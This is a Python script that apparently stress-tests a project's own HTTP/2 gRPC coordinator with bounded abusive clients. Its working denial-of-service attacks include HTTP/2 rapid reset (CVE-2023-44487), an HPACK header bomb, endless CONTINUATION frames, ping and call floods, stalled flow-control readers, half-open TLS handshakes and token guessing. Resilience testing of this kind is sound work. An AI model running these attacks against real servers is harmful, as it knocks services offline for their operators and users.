"""Clients that abuse a coordinator, each in its own way. Every attack is bounded: one turn is a fixed number of
connections, calls or bytes.

    python3 abuse.py ATTACK ADDRESS [CREDENTIAL]

Repeats the turns of an attack until standard input ends, and prints how many there were. CREDENTIAL is the directory
of a user, which some attacks need.
"""

import contextlib
import select
import socket
import ssl
import struct
import sys
import threading

from kit import http2
from kit.http2 import CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, RST_STREAM, Connection, frame

MIB = 1 << 20
CANCEL = 8


def rapid_reset(address, _):
    """1,000 streams of a stranger that are opened and reset at once (CVE-2023-44487), in 28 bytes each."""
    with Connection(address) as connection:
        resets(connection, 1000, connection.fields_of)


def rapid_reset_by_user(address, credential):
    """20,000 streams of a user that are opened and reset at once, in 160 bytes each."""
    with Connection(address, credential) as connection:
        resets(connection, 20_000, http2.call_fields)


def short_resets_by_user(address, credential):
    """The same in 28 bytes each."""
    with Connection(address, credential) as connection:
        resets(connection, 20_000, connection.fields_of)


def resets(connection, streams, fields_of):
    for _ in range(streams // 50):
        burst = b""
        for _ in range(50):
            stream = connection.stream()
            burst += frame(HEADERS, END_HEADERS, stream, fields_of("dp.v1.Access/WhoAmI"))
            burst += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
        if not connection.send(burst):
            return


def hoarded_calls(address, _):
    """Eight connections of a stranger with 500 calls each that never end."""
    with contextlib.ExitStack() as connections:
        for _ in range(8):
            connection = connections.enter_context(Connection(address))
            for _ in range(500):
                fields = connection.fields_of("dp.v1.Access/WhoAmI")
                if not connection.send(frame(HEADERS, END_HEADERS, connection.stream(), fields)):
                    break
            connection.send(frame(http2.PING, 0, 0, bytes(8)))
            while connection.read() not in (None, http2.PING):
                pass


def unread_answers(address, credential):
    """Up to 100,000 small calls of a user on each of four connections, of which no answer is read."""
    with contextlib.ExitStack() as connections:
        for _ in range(4):
            connection = connections.enter_context(Connection(address, credential, unread=2048, timeout_s=2))
            for _ in range(1000):
                if not sends_whole_calls(connection, 100, connection.fields_of):
                    break


def unread_answers_within_limits(address, credential):
    """3,000 calls of a user with 2 kB of metadata each, fewer than may be in flight, of which no answer is read.

    They take 6 s, or end with the connection.
    """
    with Connection(address, credential, unread=2048, timeout_s=2) as connection:
        metadata = http2.field("x-kilobytes", "x" * 2000)
        end = select.poll()
        end.register(connection.socket, 0)
        for _ in range(30):
            sends_whole_calls(connection, 100, lambda method: connection.fields_of(method) + metadata)
            if end.poll(200):
                break


def sends_whole_calls(connection, count, fields_of):
    """Returns whether the coordinator still takes them."""
    burst = b""
    for _ in range(count):
        stream = connection.stream()
        burst += frame(HEADERS, END_HEADERS, stream, fields_of("dp.v1.Access/WhoAmI"))
        burst += frame(DATA, END_STREAM, stream, http2.message())
    try:
        return connection.send(burst)
    except TimeoutError:
        return False


def large_headers(address, _):
    """16 calls with 1 MiB of metadata each, in many frames."""
    with Connection(address) as connection:
        for _ in range(16):
            stream = connection.stream()
            connection.send(frame(HEADERS, 0, stream, http2.call_fields("dp.v1.Access/WhoAmI")))
            for number in range(64):
                piece = http2.field(f"x-{number}", "x" * (http2.FRAME_MAX - 100))
                connection.send(frame(CONTINUATION, END_HEADERS if number == 63 else 0, stream, piece))
        connection.send(frame(http2.PING, 0, 0, bytes(8)))
        while connection.read() not in (None, http2.PING):
            pass


def header_bomb(address, _):
    """Four calls with 16,000 references each to one header of 4,000 bytes: 256 MB of metadata in 64 kB."""
    for _ in range(4):
        with Connection(address) as connection:
            stream = connection.stream()
            remembered = http2.field("x", "x" * 3900, first=0x40)
            connection.send(frame(HEADERS, 0, stream, http2.call_fields("dp.v1.Access/WhoAmI") + remembered))
            connection.send(frame(CONTINUATION, END_HEADERS, stream, b"\xbe" * 16_000))
            connection.await_answers([stream])


def endless_headers(address, _):
    """A header block of 16 MiB that never ends."""
    with Connection(address) as connection:
        stream = connection.stream()
        connection.send(frame(HEADERS, 0, stream, http2.call_fields("dp.v1.Access/WhoAmI")))
        for number in range(1024):
            piece = http2.field(f"x-{number}", "x" * (http2.FRAME_MAX - 100))
            if not connection.send(frame(CONTINUATION, 0, stream, piece)):
                return


def pings(address, _):
    """10,000 pings without a pause."""
    with Connection(address) as connection:
        for _ in range(100):
            if not connection.send(frame(http2.PING, 0, 0, bytes(8)) * 100):
                return
        while connection.read() is not None:
            pass


def slow_readers(address, credential):
    """Four connections with 64 calls each whose answers have no room: pages of logs, and events."""
    with contextlib.ExitStack() as connections:
        for _ in range(4):
            connection = connections.enter_context(Connection(address, credential, window=0))
            connection.calls(32, "dp.v1.Logs/Read", b"\x08\x01")  # of job 1
            connection.calls(32, "dp.v1.Jobs/WatchEvents")
            connection.send(frame(http2.PING, 0, 0, bytes(8)))
            while connection.read() not in (None, http2.PING):
                pass


def large_messages(address, credential):
    """Eight calls of 5 MB, one after the other."""
    with Connection(address, credential) as connection:
        streams = []
        for _ in range(8):
            streams.append(connection.next_stream)
            connection.call_slowly("dp.v1.Jobs/Submit", http2.text(1, b"x" * (5 * 1000 * 1000)))
        connection.await_answers(streams)


def silent_connections(address, _):
    """500 connections on which nothing comes."""
    with contextlib.ExitStack() as sockets:
        for _ in range(500):
            sockets.enter_context(socket.create_connection(http2.end_of(address), http2.TIMEOUT_S))


def hello():
    """The first message of a TLS handshake."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = http2.tls_context().wrap_bio(incoming, outgoing)
    with contextlib.suppress(ssl.SSLWantReadError):
        client.do_handshake()
    return outgoing.read()


def half_handshakes(address, _):
    """200 handshakes that stop after their first message."""
    with contextlib.ExitStack() as sockets:
        for _ in range(200):
            one = sockets.enter_context(socket.create_connection(http2.end_of(address), http2.TIMEOUT_S))
            one.sendall(hello())
        one.recv(1)  # the server has begun


def handshakes(address, _):
    """50 handshakes, and nothing else."""
    for _ in range(50):
        Connection(address).close()


def flood(address, credential):
    """20,000 calls of one user without a pause, many in flight. Returns the ends of the calls."""
    with Connection(address, credential) as connection:
        for _ in range(20):
            connection.await_answers(connection.calls(1000, "dp.v1.Access/WhoAmI"))
        return connection.statuses


def bad_tokens(address, _):
    """2,000 attempts to join with a token that is none. Returns the ends of the calls."""
    with Connection(address) as connection:
        for _ in range(20):
            connection.await_answers(connection.calls(100, "dp.v1.Access/Enroll", http2.text(1, b"dpj1.guess")))
        return connection.statuses


ATTACKS = {attack.__name__: attack for attack in (
    rapid_reset, rapid_reset_by_user, short_resets_by_user, hoarded_calls, large_headers, header_bomb, endless_headers,
    pings, slow_readers, unread_answers, unread_answers_within_limits, large_messages, silent_connections,
    half_handshakes, handshakes, flood, bad_tokens)}


def main(name, address, credential=None):
    over = threading.Event()
    threading.Thread(target=lambda: (sys.stdin.read(), over.set()), daemon=True).start()
    turns = 0
    while not over.is_set():
        with contextlib.suppress(OSError):  # the coordinator may close connections
            ATTACKS[name](address, credential)
        turns += 1
    print(turns)


if __name__ == "__main__":
    main(*sys.argv[1:])
